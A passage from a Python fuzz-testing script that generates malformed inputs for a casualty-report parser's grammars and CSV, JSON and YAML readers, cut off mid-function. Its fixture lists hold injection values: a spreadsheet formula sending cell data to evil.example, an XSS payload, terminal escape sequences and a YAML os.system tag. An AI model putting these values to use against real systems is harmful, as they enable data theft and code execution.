"""Fuzz tally's grammars and readers: generated hostile inputs, and no exception but tally's own.

    python benchmarks/fuzz.py [--inputs 1000000] [--seed 1] [--target all] [--jobs 1]
    python benchmarks/fuzz.py --seed 1 --replay csv:12345      # one input again, with its traceback

Every input is generated from ``(seed, target, index)`` alone, so a failure is reproduced by its
target and index whatever ``--jobs`` or ``--inputs`` were.  The generators are plain
``random.Random`` code, about a hundred times faster than drawing from hypothesis strategies; they
mix the hostile fragments of conventions.md sections 4 and 6 (digit scripts, grouping spaces,
bidi and control characters, exponents, ambiguous dates, YAML aliases and tags, broken quoting,
BOMs, bad bytes, deep nesting...) into near-valid text, and mutate it.

What is checked, per target (tests/test_fuzz.py states the same properties with hypothesis):

- ``phrases``: ``parse_quantity`` (both thousands conventions), ``parse_grade`` and ``read_phrase``
  (``tally parse``) return a value that keeps its invariants, or raise a :class:`TallyError`;
- ``dates``: ``parse_date`` and ``parse_period`` under every ``--date-order``, likewise;
- ``csv`` (CSV, TSV, ``;`` and ``|``), ``json``, ``ndjson``, ``yaml``: the bytes are written to a
  file and loaded by ``check_reports``, the loader behind ``tally validate`` and ``reconcile``
  (decoding, format detection, the reader, a ``--sources`` file, every grammar, the category and
  place trees), with random reader options (``--encoding``, ``--delimiter``, ``--input-format``,
  ``--date-order``, ``--thousands``, field and YAML limits).  Every value in the table keeps
  its invariants; and 3% of the CSV inputs are also read in two processes, as an input of 8 MiB
  or more is, which must give the document a single read gives.

Anything else that escapes is a crash, a broken invariant is "broken", and an input that takes
longer than ``--timeout`` seconds is a hang.  The summary is a Markdown table on standard output
(inputs accepted as they stand, read with error findings, or refused outright, per target);
progress goes to standard error.  The exit status is 1 if anything failed.
"""

from __future__ import annotations

import argparse
import codecs
import gc
import json
import math
import multiprocessing
import os
import platform
import random
import re
import shutil
import signal
import sys
import tempfile
import time
import traceback
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from datetime import date
from types import FrameType
from typing import Final, TypeVar

from casualty_cli.errors import Finding, GrammarError, TallyError
from casualty_cli.grammar.dates import MAX_YEAR, MIN_YEAR, DateOrder, parse_date, parse_period
from casualty_cli.grammar.grades import Q_MAX, Q_MIN, parse_grade
from casualty_cli.grammar.quantity import parse_quantity
from casualty_cli.load import Loaded, LoadOptions, check_reports
from casualty_cli.model import REPORT_FIELDS, DateValue, Grade, PeriodValue, Quantity
from casualty_cli.phrases import read_phrase
from casualty_cli.readers import ReadOptions
from casualty_cli.readers.delimited import read_delimited
from casualty_cli.readers.raw import InputFormat, RawDocument

Rng = random.Random
T = TypeVar("T")

# --- hostile fragments (conventions.md sections 4.4, 4.5 and 6) ---------------------------------

# The zero of every decimal-digit script tried: ASCII, Arabic-Indic, Persian, NKo, Devanagari,
# Bengali, Gurmukhi, Thai, Tibetan, Myanmar, Khmer, fullwidth, mathematical bold (astral), Osmanya.
DIGIT_ZEROS: Final = (
    0x30, 0x660, 0x6F0, 0x7C0, 0x966, 0x9E6, 0xA66, 0xE50, 0xF20, 0x1040, 0x17E0, 0xFF10,
    0x1D7CE, 0x104A0,
)  # fmt: skip
# Numeric characters that are not decimal digits: str.isdigit accepts some, int() none.
NOT_DECIMAL: Final = "²³¹⁰½¼Ⅻⅻ三七⑦❼٪"
GROUPING: Final = (",", ",", " ", "\u00a0", "\u202f", "\u2009", "'", "’", "\u066c", ".", "_")
DECIMAL_MARKS: Final = (".", ",", "\u066b")
SIGNS: Final = ("+", "-", "−", "‐", "minus ", "–")
EXPONENTS: Final = ("e3", "E+05", "e-2", "^2", "e", "E400")
INVISIBLE: Final = (
    "\u202e", "\u202c", "\u202d", "\u200b", "\u200c", "\u200d", "\u200e", "\u200f", "\u2066",
    "\u2069", "\ufeff", "\u00ad", "\u061c", "\u2060", "\U000e0041",
)  # fmt: skip
CONTROL: Final = (
    "\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1b[2J", "\x1b]0;x\x07", "\x1c",
    "\x1f", "\x7f", "\x85", "\x9b", "\r", "\n", "\r\n", "\t",
)  # fmt: skip
SPACES: Final = (
    " ", " ", " ", "  ", "\t", "\u00a0", "\u202f", "\u2009", "\u3000", "\u2028", "\u2029", "",
)  # fmt: skip
SURROGATES: Final = ("\ud800", "\udfff", "\udc80")
QUALIFIERS: Final = (
    "at least", "no fewer than", "no less than", "a minimum of", "more than", "over",
    "upwards of", "in excess of", "up to", "as many as", "at most", "no more than",
    "a maximum of", "fewer than", "less than", "under", "nearly", "almost", "close to",
    "just under", "about", "around", "approximately", "approx.", "approx", "some", "roughly",
    "~", "≈", "c.", "ca.", "circa", "an estimated", "between", "from", "most likely",
    "at  least", "atleast", "more then", "over over",
)  # fmt: skip
SUFFIXES: Final = (
    "or more", "+", "people", "persons", "killed", "dead", "deaths", "fatalities", "victims",
    "bodies", "were killed", "have been killed", "civilians", "casualties", "casualty", "*",
    "**", "†", "‡", "[1]", "[citation needed]", "[", "]", "(provisional)", "(", ")", "()",
    "(most likely 30)", ", most likely 30", "( most likely 7 )", "injured", "or so", "%",
)  # fmt: skip
VAGUE: Final = (
    "a few", "several", "tens", "dozens", "scores", "hundreds", "thousands",
    "tens of thousands", "hundreds of thousands", "a dozen", "dozen", "many", "few",
    "thousands of", "millions",
)  # fmt: skip
RANGE_FORMS: Final = (
    "{a}-{b}", "{a}–{b}", "{a} — {b}", "{a}−{b}", "{a} - {b}", "{a} to {b}",
    "between {a} and {b}", "from {a} to {b}", "{a}-{b}, most likely {c}",
    "{a} to {b} (most likely {c})", "{a}--{b}", "{a}-{b}-{c}", "-{a}-{b}", "{a}/{b}",
    "{a}..{b}", "{a} and {b}", "between {a}", "{a} to",
)  # fmt: skip
SPECIAL_COUNTS: Final = (
    "nan", "NaN", "inf", "-inf", "Infinity", "∞", "1e3", "1E+05", "2^10", "-5", "−5",
    "minus 5", "-", "—", "–", "--", "- -", "N/A", "n/a", "unknown", "?", "None", "null", "~",
    "0x1F", "0b101", "0o17", "1_000", "٧٤٥", "١٬٠٠٠", "١٫٥", "1.234", "1,5", "2,5", "0,745",
    "1.000.000", "1,000.5", "745.0", "1 000", "1\u00a0000", "1\u202f000", "+745", "(745)",
    "#", "##", "# killed", "745#", "0", "00", "0000000000000000", "9" * 16, "1" * 5000,
)  # fmt: skip
NAMES: Final = (
    "Ministry of Health", "ministry of  health", "MoH", "MOH", "وزارة الصحة", "Kha\u0304n",
    "Khān", "UN OCHA", "Airwars", "ACLED", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
    "\t=1+1", "\r@SUM(A1)", "-2+3", "+1", "@x", "[bold red]CONFIRMED[/]", "[/]",
    "[link=https://evil.example]UN[/link]", "\x1b[2J", "<img src=x onerror=alert(1)>", "a|b",
    "None", "null", "true", "NO", "#tag", "'quoted'", '"double"', "Syria/Latakia", "all",
    "a", "b", "c", "A", "",
)  # fmt: skip
CATEGORIES: Final = (
    "all", "All", "ALL", "civilians", "combatants", "civilians/children", "children",
    "combatants/children", "all/civilians/children", "c/a", "a/c", "b/c",
    "a", "b", "a/b", "b/a", "all/a", "/", "//", "a//b", " a / b ", "civilians/", "/civilians",
)  # fmt: skip
PLACES: Final = (
    "Syria/Latakia/Jableh", "Syria", "Gaza/Khan Younis", "gaza/khan younis", "Gaza//Rafah",
    "/Gaza", "Gaza/", " / ", "/", "غزة/خان يونس", "a/b/c/d/e/f/g/h/i/j",
)  # fmt: skip
OUTCOMES: Final = (
    "killed", "dead", "deaths", "death", "fatalities", "injured", "wounded", "missing",
    "KILLED", " Killed ", "casualties", "kidnapped", "",
)  # fmt: skip
GRADES: Final = (
    "A", "B", "C", "D", "E", "F", "G", "a", "b3", "C3", "C7", "A0", "AA", "0.8", ".5", "0,7",
    "1", "0", "1.0", "0.0", "-0.2", "−0.5", "+0.5", "80%", "٠٫٨", "0.99999999", "1e-3",
    "0." + "9" * 40, "nan", "", " ", "B 3", "Ｂ",
)  # fmt: skip
MONTHS: Final = (
    "January", "February", "March", "April", "May", "June", "July", "August", "September",
    "October", "November", "December", "Jan", "Feb", "Mar", "Apr", "Jun", "Jul", "Aug", "Sep",
    "Sept", "Oct", "Nov", "Dec", "Mar.", "Sept.", "MARCH", "march", "Marchh", "Mär", "Janvier",
)  # fmt: skip
WEEKDAYS: Final = (
    "Monday", "Tuesday", "Wednesday", "Thursday", "Friday", "Saturday", "Sunday", "Mon", "Tues",
    "Wed", "Thur", "Thurs", "Sat", "Sun", "sunday",
)  # fmt: skip
RELATIVE: Final = (
    "yesterday", "today", "tomorrow", "tonight", "now", "last night", "next week",
    "3 days ago", "this morning", "Saturday", "12:30", "10.30", "10h30", "3 pm", "3pm",
    "3 p.m.", "noon", "midnight", "recently", "earlier",
)  # fmt: skip
ZONES: Final = ("Z", "z", "+03:00", "-05:00", "+0530", "+02", "+24:00", "-23:59", "+00:60", "UTC")
PERIOD_JOINS: Final = ("/", "/", "..", " / ", " .. ", "//", "...", "/ ", " /", "--", " to ")
# Codecs for --encoding: text codecs, codecs that are not text encodings, and unknown names.
ENCODINGS: Final = (
    "utf-8", "utf-8-sig", "UTF8", "utf_8", "utf-16", "utf-16-le", "utf-16-be", "utf-32",
    "cp1252", "cp1256", "latin-1", "ascii", "utf-7", "unicode_escape", "raw_unicode_escape",
    "idna", "punycode", "koi8-r", "shift_jis", "big5", "gb18030", "iso2022_jp", "cp037",
    "mac-roman", "rot13", "base64", "hex", "zlib", "bz2", "uu", "quopri", "no-such-codec",
    "mbcs", "undefined", "",
)  # fmt: skip
DELIMITERS: Final = (",", ";", "\t", "|", " ", "'", '"', "a", "1", "\u2028", "é", "\\", ",,", "")
EXTENSIONS: Final = (
    ".csv", ".tsv", ".tab", ".ssv", ".json", ".ndjson", ".jsonl", ".yaml", ".yml", "", ".txt",
    ".CSV",
)  # fmt: skip
BAD_BYTES: Final = (
    b"\x00", b"\xff", b"\xfe", b"\xc3", b"\xe2\x80", b"\xed\xa0\x80", b"\xef\xbb\xbf",
    b"\xff\xfe", b"\xfe\xff", b"\r", b"\n", b'"', b"\x80", b"\xf4\x90\x80\x80", b"\xc0\xaf",
)  # fmt: skip
YAML_HAZARDS: Final = (
    "0745", "08", "NO", "no", "yes", "On", "off", "12:30", "190:20:30", "1_000", "0b101",
    "0x1F", ".nan", ".inf", "-.inf", "2025-03-07", "2025-03-07T06:30:00+03:00", "~", "null",
    "Null", "", "1e3", "'", '"', ": ", "- ", "@x", "`x`", "%x", "!x", "&a", "*a", "? x", "|",
    ">", "#", "[", "]", "{", "}", ",", "<<", "=", "!!binary", "\\", "\t",
)  # fmt: skip
YAML_TAGS: Final = (
    "!!python/object/apply:os.system", "!!python/name:os.system", "!!str", "!!int", "!!map",
    "!!seq", "!foo", "!", "!<tag:yaml.org,2002:str>", "!!binary", "!!timestamp", "!!set",
)  # fmt: skip

# Characters that break grammars and readers, for insertions and random text.
HOSTILE_CHARS: Final = (
    "".join(chr(z) for z in DIGIT_ZEROS)
    + NOT_DECIMAL
    + "".join(GROUPING)
    + "".join(INVISIBLE)
    + "\x00\x07\x1b\x1c\x7f\x85\r\n\t\u2028"
    + "#-–—−+~≈*†()[]{}<>/\\|.,;:'\"`!?&%@=^_$ \u00a0\u202f"
    + "eE∞ZT"
    + "".join(SURROGATES)
)


def choose(rng: Rng, options: Sequence[T]) -> T:
    return options[rng.randrange(len(options))]


def chance(rng: Rng, p: float) -> bool:
    return rng.random() < p


def random_text(rng: Rng, max_length: int = 24) -> str:
    """Arbitrary text: ASCII, hostile characters, any code point (surrogates and astral too)."""
    chars = []
    for _ in range(rng.randint(0, max_length)):
        roll = rng.random()
        if roll < 0.4:
            chars.append(chr(rng.randint(0x20, 0x7E)))
        elif roll < 0.65:
            chars.append(choose(rng, HOSTILE_CHARS))
        elif roll < 0.93:
            chars.append(chr(rng.randint(0x80, 0xFFFF)))
        else:
            chars.append(chr(rng.randint(0x10000, 0x10FFFF)))
    return "".join(chars)


def mutate(rng: Rng, text: str) -> str:
    """One to four edits: insert a hostile character, delete, replace, repeat, cut, swap."""
    for _ in range(rng.randint(1, 4)):
        at = rng.randint(0, len(text))
        op = rng.randrange(7)
        if op == 0:
            text = text[:at] + choose(rng, HOSTILE_CHARS) + text[at:]
        elif op == 1:
            text = text[:at] + text[at + rng.randint(1, 3) :]
        elif op == 2:
            text = text[:at] + random_text(rng, 2) + text[at + 1 :]
        elif op == 3 and text:
            end = min(len(text), at + rng.randint(1, 8))
            text = text[:end] + text[at:end] * rng.randint(1, 3) + text[end:]
        elif op == 4:
            text = text[:at]
        elif op == 5:
            text = text[at:] + text[:at]
        else:
            text = text[:at] + choose(rng, CONTROL + INVISIBLE + SURROGATES) + text[at:]
    return text


def in_script(rng: Rng, text: str) -> str:
    """``text`` with its ASCII digits in one other script, or in a mix of scripts."""
    mixed = chance(rng, 0.3)
    zero = choose(rng, DIGIT_ZEROS)
    out = []
    for char in text:
        if "0" <= char <= "9":
            if mixed:
                zero = choose(rng, DIGIT_ZEROS)
            out.append(chr(zero + ord(char) - 48))
        else:
            out.append(char)
    return "".join(out)


CASES: Final[tuple[Callable[[str], str], ...]] = (
    str.strip,
    str.upper,
    str.title,
    str.swapcase,
    str.lower,
)


def cased(rng: Rng, text: str) -> str:
    return choose(rng, CASES)(text) if chance(rng, 0.3) else text


def spaced(rng: Rng, text: str) -> str:
    if chance(rng, 0.1):
        text = choose(rng, SPACES) + text
    if chance(rng, 0.1):
        text = text + choose(rng, SPACES)
    return text


# --- counts --------------------------------------------------------------------------------------


def digit_string(rng: Rng) -> str:
    roll = rng.random()
    if roll < 0.35:
        return str(rng.randint(0, 99))
    if roll < 0.7:
        return str(rng.randint(100, 10**6))
    if roll < 0.8:
        return str(rng.randint(10**6, 10**10))
    if roll < 0.92:
        return choose(
            rng,
            ("0", "00", "007", "10", "100", "1000", "999999999", "1000000000", "1000000001",
             "999999999999999", "1000000000000000", "4294967296", "9223372036854775808"),
        )  # fmt: skip
    length = choose(rng, (16, 20, 100, 4300, 4301, 5000))
    return "".join(choose(rng, "0123456789") for _ in range(length))


def grouped(rng: Rng, digits: str) -> str:
    separator = choose(rng, GROUPING)
    if chance(rng, 0.75):
        groups = []
        while len(digits) > 3:
            groups.append(digits[-3:])
            digits = digits[:-3]
        groups.append(digits)
        return separator.join(reversed(groups))
    # Wrong groups: "1,00", "12,3456", "1,,000".
    cuts = sorted(rng.sample(range(1, len(digits)), min(len(digits) - 1, rng.randint(1, 3))))
    parts = [digits[i:j] for i, j in zip([0, *cuts], [*cuts, len(digits)], strict=True)]
    return choose(rng, (separator, separator * 2)).join(parts)


def number(rng: Rng) -> str:
    digits = digit_string(rng)
    text = grouped(rng, digits) if len(digits) > 1 and chance(rng, 0.3) else digits
    if chance(rng, 0.06):
        text += choose(rng, DECIMAL_MARKS) + str(rng.randint(0, 999))
    if chance(rng, 0.15):
        text = in_script(rng, text)
    if chance(rng, 0.04):
        text = choose(rng, SIGNS) + text
    if chance(rng, 0.03):
        text += choose(rng, EXPONENTS)
    return text


def phrase(rng: Rng) -> str:
    """A count phrase as a reporter might print it, or nearly."""
    shape = rng.randrange(12)
    if shape <= 2:
        text = f"{cased(rng, choose(rng, QUALIFIERS))}{choose(rng, SPACES)}{number(rng)}"
        if chance(rng, 0.3):
            text += choose(rng, SPACES) + choose(rng, SUFFIXES)
    elif shape == 3:
        text = number(rng) + choose(rng, SPACES) + cased(rng, choose(rng, SUFFIXES))
    elif shape == 4:
        form = choose(rng, RANGE_FORMS)
        text = form.format(a=number(rng), b=number(rng), c=number(rng))
    elif shape == 5:
        text = cased(rng, choose(rng, VAGUE))
        if chance(rng, 0.4):
            text = choose(rng, QUALIFIERS) + " " + text
        if chance(rng, 0.2):
            text += " " + choose(rng, SUFFIXES)
    elif shape == 6:
        text = choose(rng, SPECIAL_COUNTS)
    elif shape == 7:
        pieces = (*QUALIFIERS, *SUFFIXES, *VAGUE, *SPECIAL_COUNTS[:40], " ", " and ", "-")
        text = "".join(
            number(rng) if chance(rng, 0.3) else choose(rng, pieces)
            for _ in range(rng.randint(1, 6))
        )
    elif shape == 8:
        text = number(rng)
    elif shape == 9:
        text = random_text(rng)
    else:
        text = mutate(rng, phrase(rng))
    return spaced(rng, text)


def grade(rng: Rng) -> str:
    if chance(rng, 0.8):
        text = choose(rng, GRADES)
        return mutate(rng, text) if chance(rng, 0.2) else text
    return phrase(rng)


# --- dates ---------------------------------------------------------------------------------------


def year(rng: Rng) -> str:
    roll = rng.random()
    if roll < 0.6:
        return str(rng.randint(MIN_YEAR, MAX_YEAR))
    if roll < 0.8:
        return choose(rng, ("2025", "2024", "2000", "1999", "1000", "2999", "0999", "3000"))
    return choose(rng, ("0000", "0", "25", "99", "745", "12345", "9999", "00025", "1" * 30))


def two_digits(rng: Rng, top: int) -> str:
    value = rng.randint(0, top + 2) if chance(rng, 0.9) else rng.randint(0, 999)
    return f"{value:02d}" if chance(rng, 0.7) else str(value)


def iso(rng: Rng) -> str:
    text = year(rng)
    if chance(rng, 0.85):
        text += "-" + two_digits(rng, 12)
        if chance(rng, 0.8):
            text += "-" + two_digits(rng, 31)
            if chance(rng, 0.3):
                text += choose(rng, ("T", "t", " ", "  ", "_")) + two_digits(rng, 23)
                text += ":" + two_digits(rng, 59)
                if chance(rng, 0.6):
                    text += ":" + two_digits(rng, 60)
                    if chance(rng, 0.3):
                        digits = choose(rng, (1, 3, 6, 9, 9, 10, 12))
                        text += choose(rng, (".", ",")) + str(rng.randrange(10**digits))
                if chance(rng, 0.5):
                    text += choose(rng, ZONES)
    return text


def numeric_date(rng: Rng) -> str:
    separator = choose(rng, ("/", ".", "-", "/", " ", "\\"))
    parts = [two_digits(rng, 31), two_digits(rng, 12), year(rng)]
    roll = rng.random()
    if roll < 0.3:
        parts = [parts[2], parts[1], parts[0]]
    elif roll < 0.45:
        parts = parts[:2] if chance(rng, 0.5) else parts[1:]
    elif roll < 0.6:
        rng.shuffle(parts)
    return separator.join(parts)


def named_date(rng: Rng) -> str:
    month, day, yr = cased(rng, choose(rng, MONTHS)), two_digits(rng, 31), year(rng)
    ordinal = choose(rng, ("", "", "st", "nd", "rd", "th", "TH"))
    forms = (
        f"{day}{ordinal} {month} {yr}",
        f"{month} {day}{ordinal}, {yr}",
        f"{month} {day},{yr}",
        f"{month} {yr}",
        f"{day}{ordinal} of {month} {yr}",
        f"{yr} {month} {day}",
        f"{month} {day}",
        f"{day} {month}",
        f"{month}",
        f"{day}-{month}-{yr}",
        f"{month}/{yr}",
    )
    text = choose(rng, forms)
    if chance(rng, 0.15):
        text = choose(rng, WEEKDAYS) + choose(rng, (", ", " ", ",")) + text
    return text


def date_text(rng: Rng) -> str:
    """A date as printed, or nearly: ISO, numeric in any order, named, relative, broken."""
    roll = rng.random()
    if roll < 0.3:
        text = iso(rng)
    elif roll < 0.5:
        text = numeric_date(rng)
    elif roll < 0.68:
        text = named_date(rng)
    elif roll < 0.74:
        text = choose(rng, RELATIVE)
    elif roll < 0.8:
        text = year(rng)
    elif roll < 0.88:
        text = mutate(rng, date_text(rng))
    elif roll < 0.93:
        pieces = (*MONTHS, *WEEKDAYS, *RELATIVE, *PERIOD_JOINS, *ZONES, " ", "-", "T", "th", "of")
        text = "".join(
            year(rng) if chance(rng, 0.3) else choose(rng, pieces) for _ in range(rng.randint(1, 6))
        )
    elif roll < 0.96:
        text = phrase(rng)  # a count in a date field (conventions.md 6.3 #41)
    else:
        text = random_text(rng)
    if chance(rng, 0.1):
        text = in_script(rng, text)
    if chance(rng, 0.02):
        text = text * rng.randint(2, 40)  # longer than any date
    return spaced(rng, text)


def period_text(rng: Rng) -> str:
    roll = rng.random()
    if roll < 0.25:
        return date_text(rng)
    if roll < 0.35:
        return mutate(rng, period_text(rng))
    left = date_text(rng) if chance(rng, 0.9) else ""
    right = date_text(rng) if chance(rng, 0.8) else ""
    text = left + choose(rng, PERIOD_JOINS) + right
    if chance(rng, 0.05):
        text += choose(rng, PERIOD_JOINS) + date_text(rng)
    return text


# --- report files --------------------------------------------------------------------------------

REQUIRED: Final = ("source", "count")


def field_name(rng: Rng, name: str) -> str:
    """A header or key naming ``name`` as people write it, or a near miss."""
    roll = rng.random()
    if roll < 0.86:
        return name
    if roll < 0.96:
        return choose(rng, (name.upper(), name.title(), f" {name} ", f"{name}_", f"\ufeff{name}"))
    if roll < 0.98:
        return mutate(rng, name)
    return choose(rng, ("Count ", "COUNT", "source name", "sourсe", "date", "", "#count", "n"))


def cell(rng: Rng, name: str) -> str:
    """A value for the field ``name``: mostly of its kind, sometimes anything."""
    if chance(rng, 0.05):
        return random_text(rng)
    if chance(rng, 0.04):
        return ""
    if name in ("source", "via"):
        text = choose(rng, NAMES)
    elif name == "count":
        return phrase(rng)
    elif name == "published":
        return date_text(rng)
    elif name == "period":
        return period_text(rng) if chance(rng, 0.6) else ""
    elif name == "place":
        text = choose(rng, PLACES)
    elif name == "category":
        text = choose(rng, CATEGORIES)
    elif name == "outcome":
        text = choose(rng, OUTCOMES)
    elif name == "grade":
        return grade(rng)
    elif name == "id":
        text = choose(rng, ("1", "2", "r1", "r1 ", "R1", ""))
    else:
        text = random_text(rng, 40)
    return mutate(rng, text) if chance(rng, 0.1) else text


def report_fields(rng: Rng) -> list[str]:
    """The fields of a report or header: the required ones nearly always, a few optional ones."""
    names = [name for name in REQUIRED if chance(rng, 0.97)]
    optional = [name for name in REPORT_FIELDS if name not in REQUIRED]
    names += rng.sample(optional, rng.randint(0, 5))
    if chance(rng, 0.015):
        names.append(choose(rng, REPORT_FIELDS))  # a duplicate
    if chance(rng, 0.05):
        names.append(choose(rng, ("extra", "Notes2", "", "  ", "#x")))
    rng.shuffle(names)
    return names


def encode(rng: Rng, text: str) -> bytes:
    """``text`` as bytes: UTF-8 mostly, with a BOM, UTF-16, or a legacy code page."""
    # A lone surrogate is not valid in any UTF: kept now and then, else replaced by "?", so
    # that most files get past decoding to the readers and grammars.
    errors = "surrogatepass" if chance(rng, 0.05) else "replace"
    roll = rng.random()
    if roll < 0.8:
        return text.encode("utf-8", errors)
    if roll < 0.87:
        return codecs.BOM_UTF8 + text.encode("utf-8", errors)
    if roll < 0.91:
        return codecs.BOM_UTF16_LE + text.encode("utf-16-le", errors)
    if roll < 0.93:
        return codecs.BOM_UTF16_BE + text.encode("utf-16-be", errors)
    if roll < 0.95:
        return text.encode("utf-16-le", errors)  # no BOM
    return text.encode(choose(rng, ("cp1252", "cp1256", "latin-1")), "replace")


def mutate_bytes(rng: Rng, data: bytes) -> bytes:
    for _ in range(rng.randint(1, 3)):
        at = rng.randint(0, len(data))
        op = rng.randrange(5)
        if op == 0:
            data = data[:at] + choose(rng, BAD_BYTES) + data[at:]
        elif op == 1:
            data = data[:at] + data[at + rng.randint(1, 4) :]
        elif op == 2 and at < len(data):
            data = data[:at] + bytes([data[at] ^ (1 << rng.randrange(8))]) + data[at + 1 :]
        elif op == 3:
            data = data[:at]
        else:
            data = (
                data[:at] + bytes(rng.randrange(256) for _ in range(rng.randint(1, 4))) + data[at:]
            )
    return data


def finish(rng: Rng, text: str) -> bytes:
    if chance(rng, 0.95):
        # A NUL anywhere refuses the whole file: keep it in a few, so the rest reach the readers.
        text = text.replace("\x00", "")
    data = encode(rng, text)
    return mutate_bytes(rng, data) if chance(rng, 0.08) else data


def options(rng: Rng) -> LoadOptions:
    """Reader and loader options as the CLI may pass them: usually the defaults."""
    read = ReadOptions(
        input_format=choose(rng, list(InputFormat)) if chance(rng, 0.04) else None,
        encoding=choose(rng, ENCODINGS) if chance(rng, 0.05) else None,
        delimiter=choose(rng, DELIMITERS) if chance(rng, 0.04) else None,
        max_field_size=choose(rng, (0, 1, 10, 100, 2**31, 2**64)) if chance(rng, 0.02) else 2**20,
        max_yaml_bytes=choose(rng, (0, 10, 200)) if chance(rng, 0.02) else 10 * 2**20,
        max_yaml_depth=choose(rng, (0, 1, 2, 3)) if chance(rng, 0.03) else 64,
    )
    thousands = choose(rng, (None, None, ".", ","))
    return LoadOptions(
        read=read,
        date_order=choose(rng, (None, None, *DateOrder)),
        dot_grouping=thousands == "." or chance(rng, 0.05),
        thousands=thousands,
        strict=chance(rng, 0.3),
    )


def file_name(rng: Rng, usual: Sequence[str]) -> str:
    # A wrong or missing extension sends the bytes to another reader, or to the sniffer.
    extension = choose(rng, usual) if chance(rng, 0.92) else choose(rng, EXTENSIONS)
    return "fuzz" + extension


def quoted(rng: Rng, value: str, delimiter: str) -> str:
    needs = any(c in value for c in (delimiter, '"', "\n", "\r")) or value != value.strip()
    if chance(rng, 0.005):
        return choose(rng, (f'"{value}', f'"{value}" x', f'x"{value}"', f'"{value}"""'))
    if needs or chance(rng, 0.1):
        return '"' + value.replace('"', '""') + '"'
    return value


def csv_text(rng: Rng) -> tuple[str, str]:
    """A delimited report table and its delimiter."""
    delimiter = choose(rng, (",", ",", ",", ";", "\t", "|"))
    names = report_fields(rng)
    header = [field_name(rng, name) for name in names]
    lines = []
    if chance(rng, 0.05):
        lines.append(f"sep={choose(rng, (delimiter, delimiter, ',', ';', '', 'ab'))}")
    if chance(rng, 0.05):
        lines.append("")
    lines.append(delimiter.join(quoted(rng, h, delimiter) for h in header))
    if chance(rng, 0.05):
        lines.append(delimiter.join(f"#{name}" for name in names))
    for _ in range(rng.randint(0, 8)):
        row = [cell(rng, name) for name in names]
        if chance(rng, 0.02):
            row = row[: rng.randint(0, len(row))] if chance(rng, 0.5) else [*row, "extra"]
        if chance(rng, 0.03):
            row = [""] * len(row)
        lines.append(delimiter.join(quoted(rng, value, delimiter) for value in row))
    if chance(rng, 0.05):
        lines.append("")
    newline = choose(rng, ("\n", "\n", "\r\n", "\r"))
    text = "".join(
        line + (choose(rng, ("\n", "\r\n", "\r")) if chance(rng, 0.05) else newline)
        for line in lines
    )
    if chance(rng, 0.1):
        text = text.rstrip("\r\n")
    return (mutate(rng, text) if chance(rng, 0.05) else text), delimiter


# --- JSON ---------------------------------------------------------------------------------------


def json_string(rng: Rng, text: str) -> str:
    roll = rng.random()
    if roll < 0.999:
        return json.dumps(text, ensure_ascii=chance(rng, 0.5))
    return choose(
        rng, (f'"{text}', '"\\x41"', '"\\ud800"', '"\\udc00\\ud800"', '"\\u12"', '"a\tb"', "'a'")
    )


JSON_NUMBERS: Final = (
    "745", "-5", "-0", "0", "1e3", "1E400", "-1e400", "0.5", "745.0", "1.0e2", "1" * 40,
    "1" * 5000, "true", "false", "null",
)  # fmt: skip
# Python's json module accepts NaN and Infinity; the others are not JSON at all.
NOT_JSON_NUMBERS: Final = (
    "NaN", "Infinity", "-Infinity", "0745", "1_000", "+5", ".5", "5.", "0x10", "nul", "tru",
)  # fmt: skip


def json_scalar(rng: Rng, name: str) -> str:
    if chance(rng, 0.75):
        return json_string(rng, cell(rng, name))
    if chance(rng, 0.02):
        return choose(rng, NOT_JSON_NUMBERS)
    return choose(rng, JSON_NUMBERS)


def json_any(rng: Rng, depth: int = 0) -> str:
    roll = rng.random()
    if depth > 3 or roll < 0.6:
        return json_scalar(rng, choose(rng, REPORT_FIELDS))
    if roll < 0.8:
        return "[" + ", ".join(json_any(rng, depth + 1) for _ in range(rng.randint(0, 3))) + "]"
    return json_object(rng, [(random_text(rng, 6), json_any(rng, depth + 1)) for _ in range(2)])


def json_object(rng: Rng, pairs: Sequence[tuple[str, str]]) -> str:
    space = choose(rng, ("", " ", "\n  ", "\r\n", "\t"))
    items = [f"{json_string(rng, key)}:{space}{value}" for key, value in pairs]
    if items and chance(rng, 0.01):
        items.append(items[0])  # a duplicate key
    joined = ("," + space).join(items)
    if chance(rng, 0.003):
        joined += ","  # a trailing comma
    return "{" + space + joined + space + "}"


def json_report(rng: Rng) -> str:
    if chance(rng, 0.01):
        return json_any(rng)
    pairs = []
    for name in report_fields(rng):
        value = json_scalar(rng, name) if chance(rng, 0.99) else json_any(rng, 2)
        pairs.append((field_name(rng, name), value))
    return json_object(rng, pairs)


def json_context(rng: Rng) -> list[tuple[str, str]]:
    """``sources:``, ``categories:``, ``places:`` and ``incident:`` entries, as JSON."""
    pairs = []
    if chance(rng, 0.4):
        sources = []
        for _ in range(rng.randint(0, 4)):
            source = choose(rng, NAMES)
            if chance(rng, 0.6):
                value = json_string(rng, grade(rng))
            elif chance(rng, 0.8):
                entry = [
                    ("grade", json_string(rng, grade(rng))),
                    ("name", json_string(rng, source)),
                ]
                aliases = ", ".join(json_string(rng, choose(rng, NAMES)) for _ in range(2))
                entry.append(("aliases", f"[{aliases}]" if chance(rng, 0.8) else aliases))
                value = json_object(rng, entry)
            else:
                value = json_any(rng, 2)
            sources.append((source, value))
        pairs.append(("sources", json_object(rng, sources)))
    for section, pool in (("categories", CATEGORIES), ("places", PLACES)):
        if chance(rng, 0.3):
            entries = []
            for _ in range(rng.randint(0, 3)):
                parts = "[" + ", ".join(json_string(rng, choose(rng, pool)) for _ in range(2)) + "]"
                if chance(rng, 0.4):
                    complete = json_string(rng, choose(rng, ("true", "yes", "no", "maybe", "")))
                    parts = json_object(rng, [("parts", parts), ("complete", complete)])
                entries.append((choose(rng, pool), parts))
            body = json_object(rng, entries) if chance(rng, 0.95) else json_any(rng, 2)
            pairs.append((section, body))
    if chance(rng, 0.2):
        incident = [
            ("title", json_string(rng, random_text(rng)) if chance(rng, 0.95) else json_any(rng)),
            ("start", json_scalar(rng, "published")),
        ]
        pairs.append(("incident", json_object(rng, incident)))
    return pairs


def deep(rng: Rng, opener: str, closer: str) -> str:
    depth = choose(rng, (10, 63, 64, 65, 100, 1000, 5000, 100_000))
    inner = choose(rng, ("", "1", '"x"'))
    return opener * depth + inner + (closer * depth if chance(rng, 0.7) else "")


def json_text(rng: Rng) -> str:
